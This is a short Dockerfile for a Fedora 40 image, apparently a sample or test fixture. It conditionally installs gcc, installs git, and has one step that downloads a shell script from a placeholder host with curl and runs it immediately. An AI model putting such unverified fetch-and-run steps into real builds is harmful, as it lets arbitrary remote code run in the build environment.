FROM fedora:40
RUN if [ -e /opt/x ]; then dnf install -y gcc; fi
RUN curl -o /opt/t.sh https://example.com/t.sh && sh /opt/t.sh
RUN dnf install -y git
